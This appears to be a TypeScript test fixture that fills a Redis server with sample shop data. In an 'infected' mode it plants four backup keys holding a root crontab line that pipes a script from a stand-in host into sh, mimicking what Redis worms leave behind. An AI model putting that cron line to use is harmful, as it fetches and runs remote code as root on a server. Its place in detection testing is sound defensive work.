import type { Redis } from 'ioredis';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';

/** What the servers of the fleet hold: an application's data, and in the infected ones what a worm leaves. */
export async function fillModel(client: Redis, model: 'clean' | 'infected'): Promise<void> {
  for (let at = 0; at < 12; at++) await client.set(`session:${at}`, JSON.stringify({ user: at, cart: [at] }));
  await client.hset('user:1', { name: 'Ann', city: 'Utrecht', visits: '14' });
  await client.rpush('queue:mail', 'job-1', 'job-2', 'job-3');
  await client.sadd('online', '1', '2', '3');
  await client.zadd('scores', 1, 'ann', 2, 'bob');
  await client.xadd('events', '*', 'type', 'login', 'user', '1');
  await client.set('page:/', `<!doctype html><title>shop</title>${'<p>goods</p>'.repeat(600)}`);
  if (model === 'infected') for (const at of [1, 2, 3, 4]) await client.set(`backup${at}`, CRON);
}
